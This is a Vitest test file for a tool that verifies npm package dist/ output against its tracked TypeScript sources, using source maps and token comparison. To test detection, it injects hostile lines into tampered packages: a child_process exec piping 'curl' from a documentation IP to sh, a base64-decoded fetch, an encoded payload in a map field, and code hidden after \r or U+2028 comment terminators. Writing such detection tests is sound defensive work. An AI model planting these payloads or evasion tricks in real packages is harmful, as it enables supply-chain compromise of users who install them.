/**
 * npm build output (dist/) judged by its content, on packages built here by the real TypeScript compiler
 * (the project's own dev dependency) and packed by the real `npm pack`; tampered copies are the package
 * re-packed by GNU tar with one line added to dist/index.js.
 *
 * Before this check (main 0228c4a), every one of these dist/ files was NPM_BUILD_OUTPUT (info) and the
 * tampered packages exited 0: the profile matched the output's name to a tracked source and nothing else.
 */
import { execFileSync } from 'node:child_process';
import { cpSync, mkdirSync, readFileSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { formatFinding } from '../../src/core/codes.js';
import type { Finding } from '../../src/core/findings.js';
import { capabilitiesOf, decodeMappings, jsTokens, sameTokens, unmappedCodeLines } from '../../src/profiles/npm-dist.js';
import { verify } from '../../src/verify.js';
import { makeTar } from '../helpers/archives.js';
import { makeRepo } from '../helpers/git.js';
import { tempDir } from '../helpers/tmp.js';
import { npmPack as npmPackIn } from '../helpers/npm-pack.js';

const root = tempDir('distdiff-npm-dist-');
const cacheDir = join(root, 'cache');
const tsc = createRequire(import.meta.url).resolve('typescript/bin/tsc');

const INDEX_TS = `import { greet } from './util';

/** The answer. */
export const answer: number = 42;

export function hello(name: string): string {
  return greet(name) + '!';
}
`;
const UTIL_TS = `export function greet(who: string): string {
  const parts: string[] = ['hello', who];
  return parts.join(' ');
}
`;

const npmPack = (dir: string, dest: string) => npmPackIn(dir, dest, join(root, 'npm-cache'));

interface Pkg {
  repo: string;
  tgz: string;
  /** The package re-packed (GNU tar, package/ prefix) with `edit` applied to its unpacked tree. */
  tampered: (edit: (dir: string) => void) => string;
}

let n = 0;
/** A TypeScript package: tracked sources and tsconfig, dist/ built by tsc (not tracked), packed by npm. */
function tsPackage(name: string, compilerOptions: Record<string, unknown>, extra: Record<string, string> = {}, post?: (dir: string) => void): Pkg {
  const repoDir = join(root, name);
  const repo = makeRepo(repoDir);
  repo.commit({
    'package.json': JSON.stringify({ name, version: '1.0.0', main: 'dist/index.js', types: 'dist/index.d.ts', files: ['dist'], scripts: { build: 'tsc' } }, null, 2) + '\n',
    'tsconfig.json': JSON.stringify({ compilerOptions: { target: 'ES2020', module: 'commonjs', rootDir: 'src', outDir: 'dist', declaration: true, strict: true, ...compilerOptions }, include: ['src'] }, null, 2) + '\n',
    '.gitignore': 'dist/\n',
    'src/index.ts': INDEX_TS,
    'src/util.ts': UTIL_TS,
    ...extra,
  });
  repo.tag('v1.0.0');
  execFileSync(process.execPath, [tsc, '-p', repoDir], { stdio: ['ignore', 'pipe', 'pipe'] });
  post?.(repoDir);
  const tgz = npmPack(repoDir, join(root, `${name}-packs`));
  const unpacked = join(root, `${name}-unpacked`);
  mkdirSync(unpacked);
  execFileSync('tar', ['-xzf', tgz, '-C', unpacked]);
  return {
    repo: repoDir,
    tgz,
    tampered: (edit) => {
      const dir = join(root, `tampered-${++n}`, 'package');
      mkdirSync(dir, { recursive: true });
      cpSync(join(unpacked, 'package'), dir, { recursive: true });
      edit(dir);
      return makeTar(dir, { compress: 'gzip', out: join(root, `tampered-${n}`, `${name}-1.0.0.tgz`) });
    },
  };
}

const addLine = (dir: string, line: string) => {
  const p = join(dir, 'dist/index.js');
  writeFileSync(p, readFileSync(p, 'utf8').replace('exports.hello = hello;\n', `exports.hello = hello;\n${line}\n`));
};
const run = (tgz: string, repo: string) => verify({ tarball: tgz, repo, cacheDir });
const at = (fs: Finding[], path: string) => fs.find((f) => f.path === path)!;
const dist = (fs: Finding[]) => fs.filter((f) => f.path.startsWith('dist/')).map((f) => `${f.path} ${f.code} ${f.severity}`).sort();

describe('dist/ with source maps (tsc --sourceMap --inlineSources)', () => {
  let pkg: Pkg;
  beforeAll(() => {
    pkg = tsPackage('mapped', { sourceMap: true, inlineSources: true });
  }, 120_000);

  it('proves each script and map by its source map: embedded sources are git\'s, every code line mapped; declarations are built, not proved', async () => {
    const r = await run(pkg.tgz, pkg.repo);
    expect(dist(r.findings)).toEqual([
      'dist/index.d.ts NPM_BUILD_OUTPUT_UNPROVED low',
      'dist/index.js NPM_BUILD_OUTPUT info',
      'dist/index.js.map NPM_BUILD_OUTPUT info',
      'dist/util.d.ts NPM_BUILD_OUTPUT_UNPROVED low',
      'dist/util.js NPM_BUILD_OUTPUT info',
      'dist/util.js.map NPM_BUILD_OUTPUT info',
    ]);
    expect(at(r.findings, 'dist/index.js').evidence).toEqual({ source: 'src/index.ts', proof: 'source-map', map: 'dist/index.js.map', sources: ['src/index.ts'] });
    expect(formatFinding(at(r.findings, 'dist/index.js'))).toBe("built from src/index.ts: its source map (dist/index.js.map) embeds git's src/index.ts and maps every code line");
    expect(at(r.findings, 'dist/index.d.ts').evidence).toEqual({ source: 'src/index.ts', kind: 'declaration', why: 'compiled' });
    expect(r.verdict).not.toBe('different');
  }, 120_000);

  it('one line added to dist/index.js: NPM_BUILD_OUTPUT_MISMATCH high — the added line and the lines it pushed off their mappings shown', async () => {
    const r = await run(pkg.tampered((d) => addLine(d, 'console.log("hello from dist");')), pkg.repo);
    const f = at(r.findings, 'dist/index.js');
    expect(f.code).toBe('NPM_BUILD_OUTPUT_MISMATCH');
    expect(f.severity).toBe('high');
    expect(f.evidence).toMatchObject({ source: 'src/index.ts', map: 'dist/index.js.map', differingSources: [], unmapped: 4 });
    if (f.code !== 'NPM_BUILD_OUTPUT_MISMATCH') throw new Error(f.code);
    // Line 5 is the added one; 8–10 now sit on the mappings of the lines below them (names their source lines lack).
    expect(f.evidence.unmappedLines).toEqual([
      { line: 5, text: 'console.log("hello from dist");' },
      { line: 8, text: 'exports.answer = 42;' },
      { line: 9, text: 'function hello(name) {' },
      { line: 10, text: "return (0, util_1.greet)(name) + '!';" },
    ]);
    expect(r.verdict).toBe('different');
  }, 120_000);

  it('a payload line: the mismatch also names the capability no tracked source has', async () => {
    const r = await run(pkg.tampered((d) => addLine(d, 'require("child_process").exec("curl -s http://198.51.100.7/x | sh");')), pkg.repo);
    const f = at(r.findings, 'dist/index.js');
    expect(f.code).toBe('NPM_BUILD_OUTPUT_MISMATCH');
    expect(f.evidence).toMatchObject({ unmapped: 4, capabilities: ['child-process'] });
  }, 120_000);

  it('a map embedding a source that is not git\'s: mismatch naming it', async () => {
    const r = await run(
      pkg.tampered((d) => {
        const p = join(d, 'dist/util.js.map');
        const m = JSON.parse(readFileSync(p, 'utf8')) as { sourcesContent: string[] };
        m.sourcesContent[0] = m.sourcesContent[0]!.replace("'hello'", "'howdy'");
        writeFileSync(p, JSON.stringify(m));
      }),
      pkg.repo,
    );
    for (const path of ['dist/util.js', 'dist/util.js.map']) {
      const f = at(r.findings, path);
      expect(f.code).toBe('NPM_BUILD_OUTPUT_MISMATCH');
      expect(f.evidence).toMatchObject({ differingSources: ['src/util.ts'], unmapped: 0 });
    }
  }, 120_000);
});

// tsc's declarationMap writes X.d.ts.map beside each X.d.ts (lru-cache 10.2.0 ships dist/{commonjs,esm}/index.d.ts.map):
// the editor's link from the declarations to the source, no code. Before, such a file was TARBALL_ONLY_UNEXPLAINED (high).
describe('dist/ with declaration maps (tsc --declarationMap)', () => {
  let pkg: Pkg;
  beforeAll(() => {
    pkg = tsPackage('declmap', { declarationMap: true });
  }, 120_000);
  const editMap = (d: string, f: (m: Record<string, unknown>) => void) => {
    const p = join(d, 'dist/util.d.ts.map');
    const m = JSON.parse(readFileSync(p, 'utf8')) as Record<string, unknown>;
    f(m);
    writeFileSync(p, JSON.stringify(m));
  };

  it('each X.d.ts.map is labelled built from its tracked source (low), like the declarations it maps', async () => {
    const r = await run(pkg.tgz, pkg.repo);
    expect(dist(r.findings)).toEqual([
      'dist/index.d.ts NPM_BUILD_OUTPUT_UNPROVED low',
      'dist/index.d.ts.map NPM_BUILD_OUTPUT_UNPROVED low',
      'dist/index.js NPM_BUILD_OUTPUT_UNPROVED low',
      'dist/util.d.ts NPM_BUILD_OUTPUT_UNPROVED low',
      'dist/util.d.ts.map NPM_BUILD_OUTPUT_UNPROVED low',
      'dist/util.js NPM_BUILD_OUTPUT_UNPROVED low',
    ]);
    expect(at(r.findings, 'dist/util.d.ts.map').evidence).toEqual({ source: 'src/util.ts', kind: 'map', why: 'declaration-map', map: 'dist/util.d.ts.map' });
    expect(formatFinding(at(r.findings, 'dist/util.d.ts.map'))).toBe('a source map built from src/util.ts, not proved (a declaration map of tracked sources, no code: dist/util.d.ts.map)');
    expect(r.verdict).not.toBe('different');
  }, 120_000);

  it('twins stay high: a source git does not have, a field tsc does not write, another file, a payload that is no source map', async () => {
    const cases: [string, (d: string) => void][] = [
      ['source', (d) => editMap(d, (m) => { m.sources = ['../src/util.ts', '../src/payload.ts']; })],
      ['field', (d) => editMap(d, (m) => { m.x_payload = 'Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43L3ggfCBzaA=='; })],
      ['file', (d) => editMap(d, (m) => { m.file = 'index.d.ts'; })],
      ['content', (d) => writeFileSync(join(d, 'dist/util.d.ts.map'), 'require("child_process").exec("id");\n')],
    ];
    for (const [name, edit] of cases) {
      const r = await run(pkg.tampered(edit), pkg.repo);
      const f = at(r.findings, 'dist/util.d.ts.map');
      expect([name, f.code, f.severity]).toEqual([name, 'TARBALL_ONLY_UNEXPLAINED', 'high']);
      expect(at(r.findings, 'dist/index.d.ts.map').code).toBe('NPM_BUILD_OUTPUT_UNPROVED');
    }
  }, 240_000);
});

// tshy's dialect overrides (jackspeak 3.4.3, holdout26): src/X-cjs.cts compiles to dist/X-cjs.cjs, X-cjs.d.cts and
// X-cjs.d.cts.map; tshy then moves the code and the declarations over X.js / X.d.ts and leaves both maps under their
// own names, so the renamed X.d.ts names X-cjs.d.cts.map while the map's `file` (X-cjs.d.cts) is not shipped. Before,
// the map was TARBALL_ONLY_UNEXPLAINED (high): jackspeak exit 1.
describe('a declaration map whose declarations the build renamed (tshy dialect overrides)', () => {
  const UTIL_CTS = `export function greet(who: string): string {\n  return ['hello', who, '(cjs)'].join(' ');\n}\n`;
  const tshyRename = (dir: string) => {
    const d = (f: string) => join(dir, 'dist', f);
    for (const f of ['util.js', 'util.d.ts', 'util.d.ts.map']) rmSync(d(f));
    renameSync(d('util-cjs.cjs'), d('util.js'));
    renameSync(d('util-cjs.d.cts'), d('util.d.ts'));
  };
  let pkg: Pkg;
  beforeAll(() => {
    pkg = tsPackage('renamed', { declarationMap: true }, { 'src/util-cjs.cts': UTIL_CTS }, tshyRename);
  }, 120_000);
  const map = 'dist/util-cjs.d.cts.map';

  it('is a declaration map of its tracked source: the one shipped declaration file naming it stands for its `file`', async () => {
    const r = await run(pkg.tgz, pkg.repo);
    expect(readFileSync(join(pkg.repo, 'dist/util.d.ts'), 'utf8')).toContain('sourceMappingURL=util-cjs.d.cts.map');
    expect(at(r.findings, map)).toMatchObject({ code: 'NPM_BUILD_OUTPUT_UNPROVED', severity: 'low', evidence: { source: 'src/util-cjs.cts', kind: 'map', why: 'declaration-map', map } });
    expect(r.findings.filter((f) => f.severity === 'high' || f.severity === 'critical')).toEqual([]);
  }, 120_000);

  it('twins stay high: no shipped declaration names the map, two do, its `file` is shipped under another name, or is no declaration', async () => {
    const setUrl = (d: string, f: string, url: string) => writeFileSync(join(d, f), readFileSync(join(d, f), 'utf8').replace(/sourceMappingURL=\S+/, `sourceMappingURL=${url}`));
    const editM = (d: string, e: (m: Record<string, unknown>) => void) => {
      const m = JSON.parse(readFileSync(join(d, map), 'utf8')) as Record<string, unknown>;
      e(m);
      writeFileSync(join(d, map), JSON.stringify(m));
    };
    const cases: [string, (d: string) => void][] = [
      ['unnamed', (d) => setUrl(d, 'dist/util.d.ts', 'util.d.ts.map')],
      ['two', (d) => setUrl(d, 'dist/index.d.ts', 'util-cjs.d.cts.map')],
      ['shipped', (d) => editM(d, (m) => { m.file = 'index.d.ts'; })],
      ['script', (d) => editM(d, (m) => { m.file = 'util-cjs.cjs'; })],
    ];
    for (const [name, edit] of cases) {
      const r = await run(pkg.tampered(edit), pkg.repo);
      const f = at(r.findings, map);
      expect([name, f.code, f.severity]).toEqual([name, 'TARBALL_ONLY_UNEXPLAINED', 'high']);
    }
  }, 240_000);
});

describe('dist/ without source maps', () => {
  let pkg: Pkg;
  beforeAll(() => {
    pkg = tsPackage('plain', {});
  }, 120_000);

  it('labelled as built, not proved (low): the default gate passes, the report says what it is', async () => {
    const r = await run(pkg.tgz, pkg.repo);
    expect(dist(r.findings)).toEqual([
      'dist/index.d.ts NPM_BUILD_OUTPUT_UNPROVED low',
      'dist/index.js NPM_BUILD_OUTPUT_UNPROVED low',
      'dist/util.d.ts NPM_BUILD_OUTPUT_UNPROVED low',
      'dist/util.js NPM_BUILD_OUTPUT_UNPROVED low',
    ]);
    expect(formatFinding(at(r.findings, 'dist/index.js'))).toBe('a script built from src/index.ts, not proved (compiled, no source map)');
    expect(r.verdict).not.toBe('different');
  }, 120_000);

  it('an added line that spawns a process, which no tracked source does: high', async () => {
    const r = await run(pkg.tampered((d) => addLine(d, 'require("child_process").exec("id");')), pkg.repo);
    const f = at(r.findings, 'dist/index.js');
    expect(f.code).toBe('NPM_BUILD_OUTPUT_UNPROVED');
    expect(f.severity).toBe('high');
    expect(f.severityReason).toEqual({ reason: 'new-capability', default: 'low' });
    expect(f.evidence).toEqual({ source: 'src/index.ts', kind: 'script', why: 'compiled', capabilities: ['child-process'] });
    expect(r.verdict).toBe('different');
  }, 120_000);

  it('a fetch of decoded data: network and base64-decode', async () => {
    const r = await run(pkg.tampered((d) => addLine(d, 'fetch(Buffer.from("aHR0cDovLzE5OC41MS4xMDAuNy94", "base64").toString());')), pkg.repo);
    expect(at(r.findings, 'dist/index.js').evidence).toMatchObject({ capabilities: ['base64-decode', 'network'] });
  }, 120_000);

  it('a benign added line stays low: without a map nothing proves or refutes it (said in the finding)', async () => {
    const r = await run(pkg.tampered((d) => addLine(d, 'exports.extra = 1;')), pkg.repo);
    expect(at(r.findings, 'dist/index.js').severity).toBe('low');
  }, 120_000);
});

describe('a tracked script copied to dist/', () => {
  it('proved by its tokens; one changed token is not', async () => {
    const repoDir = join(root, 'copied');
    const repo = makeRepo(repoDir);
    const src = "'use strict';\n// the answer\nexports.answer = function answer() {\n  return /a\\/b/.test('a/b') ? 42 : 0;\n};\n";
    repo.commit({ 'package.json': JSON.stringify({ name: 'copied', version: '1.0.0', main: 'dist/index.js', files: ['dist'] }) + '\n', 'src/index.js': src, '.gitignore': 'dist/\n' });
    repo.tag('v1.0.0');
    mkdirSync(join(repoDir, 'dist'));
    writeFileSync(join(repoDir, 'dist/index.js'), "'use strict';\nexports.answer = function answer() { return /a\\/b/.test('a/b') ? 42 : 0; };\n");
    const r = await run(npmPack(repoDir, join(root, 'copied-packs')), repoDir);
    expect(at(r.findings, 'dist/index.js').evidence).toEqual({ source: 'src/index.js', proof: 'tokens' });
    expect(at(r.findings, 'dist/index.js').severity).toBe('info');
    writeFileSync(join(repoDir, 'dist/index.js'), "'use strict';\nexports.answer = function answer() { return /a\\/b/.test('a/b') ? 43 : 0; };\n");
    const r2 = await run(npmPack(repoDir, join(root, 'copied-packs2')), repoDir);
    expect(at(r2.findings, 'dist/index.js').code).toBe('NPM_BUILD_OUTPUT_UNPROVED');
  }, 120_000);
});

describe('npm-dist helpers', () => {
  it('tokenises JavaScript without comments and whitespace, keeping strings and regular expressions whole', () => {
    expect(jsTokens('a = /x\\/*y/g; // c\nb /* d */ = "e // f" + `g ${h}`;')).toEqual(['a', '=', '/x\\/*y/g', ';', 'b', '=', '"e // f"', '+', '`g ${h}`', ';']);
    expect(jsTokens('x = a / b / c')).toEqual(['x', '=', 'a', '/', 'b', '/', 'c']);
    expect(sameTokens('let a=1;//x\n', 'let  a = 1 ;')).toBe(true);
    expect(sameTokens('let a=1;', 'let a=1;b();')).toBe(false);
  });

  // Red team 17: node ends a // comment (and a hashbang line) at \r, U+2028 and U+2029 as well as \n, so what follows
  // on the "same line" runs; read as part of the comment, it passed as the tracked file's tokens.
  it('a // comment ends at every line terminator: code after \r, U+2028 or U+2029 is code', () => {
    const git = 'const a = 1;\nmodule.exports = a;\n';
    for (const lt of ['\r', '\u2028', '\u2029']) {
      const evil = `const a = 1;\n// note${lt}require('child_process').execSync('id');\nmodule.exports = a;\n`;
      expect(sameTokens(git, evil)).toBe(false);
      expect(jsTokens(evil)).toContain("'child_process'");
      expect(sameTokens(`#!/usr/bin/env node\n${git}`, `#!/usr/bin/env node${lt}fetch('https://203.0.113.9/');\n${git}`)).toBe(false);
    }
    // legitimate: CRLF line endings and a comment ending at \r\n are the same tokens
    expect(sameTokens(git, git.replace(/\n/g, '\r\n').replace('const a = 1;', 'const a = 1; // one'))).toBe(true);
    expect(sameTokens('a = /x/g;\u2028b = 2;', 'a=/x/g;b=2;')).toBe(true);
  });

  // Red team 18: whitespace is not always only a separator. A line break after return/throw/break/continue/yield/async
  // or before a postfix ++/-- changes the parse (automatic semicolon insertion); a nested template's spaces are its text.
  it('a line break where ASI changes the parse is a token; a nested template literal is one token with its text', () => {
    expect(sameTokens('function f() { return x }', 'function f() { return\n  x }')).toBe(false);
    expect(sameTokens('function f() { return x }', 'function f() { return /* a\nb */ x }')).toBe(false);
    expect(sameTokens('if (a) throw e', 'if (a) throw\ne')).toBe(false);
    expect(sameTokens('a\n++b', 'a++\nb')).toBe(false);
    expect(sameTokens('x = a ? b : c', 'x = a\n  ? b\n  : c')).toBe(true);
    expect(sameTokens('return x', 'return x /* one line */')).toBe(true);
    expect(sameTokens('return (\n  x\n)', 'return (x)')).toBe(true);
    expect(jsTokens('return\n/re/.test(s)')).toEqual(['return', '\n', '/re/', '.', 'test', '(', 's', ')']);
    expect(jsTokens('s = `a ${`b c`} d`;')).toEqual(['s', '=', '`a ${`b c`} d`', ';']);
    expect(sameTokens('s = `a ${`b c`} d`;', 's = `a ${`bc`} d`;')).toBe(false);
    expect(sameTokens('s = `a ${ {k: "}"}.k } d`', 's = `a ${ {k: "}"}.k } d`')).toBe(true);
    expect(jsTokens('s = `x ${ "`" } y`; z')).toEqual(['s', '=', '`x ${ "`" } y`', ';', 'z']);
    expect(sameTokens('return x', 'return\u2028x')).toBe(false);
  });

  it('decodes source map mappings and finds code lines no mapping covers', () => {
    // "AAAA;AACA" = line 1 col 0 → source 0 line 0 col 0; line 2 col 0 → source 0 line 1 col 0.
    expect(decodeMappings('AAAA;AACA;;')).toEqual([[[0, 0, 0, 0]], [[0, 0, 1, 0]], [], []]);
    expect(decodeMappings('A!')).toBeUndefined();
    expect(unmappedCodeLines('"use strict";\nfoo();\nbar();\n// c\n}\n', decodeMappings(';AAAA')!)).toEqual([3]);
    // A name the mapped source line lacks; compiler glue (exports, util_1, keywords) is not counted.
    expect(unmappedCodeLines('exports.a = util_1.f(x);\nevil(x);\n', decodeMappings('AAAA;AAAA')!, ['a = f(x);\n'])).toEqual([2]);
    // A tsc helper block has no mappings and is not code of the package.
    expect(unmappedCodeLines('var __awaiter = (this && this.__awaiter) || function (a) {\n  return a;\n};\nf();\n', decodeMappings(';;;AAAA')!, ['f();\n'])).toEqual([]);
    // a multi-line template literal's later lines are string text (glob 10.3.10's bin.mjs usage text); with ${…} they
    // are not blanked; a shebang is skipped only when it is a source's own first line
    expect(unmappedCodeLines('#!/usr/bin/env node\nconst u = `usage:\n  glob [options]\n`;\nconst v = `a\n${evil()}\n`;\n', decodeMappings(';AACA;;;AACA;;')!, ['#!/usr/bin/env node\nconst u = 1;\nconst v = 2;\n'])).toEqual([6]);
    expect(unmappedCodeLines('#!/bin/sh -c evil\nf();\n', decodeMappings(';AAAA')!, ['#!/usr/bin/env node\nf();\n'])).toEqual([1]);
    // tsc's unmapped `else` line (glob 10.3.10) is no code; an `else` with a statement after it is
    expect(unmappedCodeLines('if (a) {\n}\nelse {\n  f();\n}\nelse g();\n', decodeMappings('AAAA;;;AACA;;')!, ['if (a) {\n  f();\n'])).toEqual([6]);
  });

  it('names capabilities', () => {
    expect(capabilitiesOf('const cp = require("child_process");')).toEqual(['child-process']);
    expect(capabilitiesOf('new Function(atob(s))()')).toEqual(['eval', 'base64-decode']);
    expect(capabilitiesOf('import https from "node:https"; obj.eval(1); prefetch(x);')).toEqual(['network']);
    expect(capabilitiesOf('process.dlopen(m, p)')).toEqual(['native-code']);
  });
});
